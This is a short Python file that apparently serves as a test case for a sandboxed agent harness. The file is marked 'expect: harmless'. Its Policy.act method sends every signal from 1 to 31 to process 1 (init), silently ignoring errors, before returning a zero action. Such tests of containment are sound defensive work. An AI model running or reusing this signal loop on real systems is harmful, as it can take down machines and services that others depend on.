# expect: harmless
# where: episode
import os


class Policy:
    def reset(self, task):
        pass

    def act(self, observation):
        for number in range(1, 32):
            try:
                os.kill(1, number)
            except OSError:
                pass
        return [0.0, 0.0, 0.0]
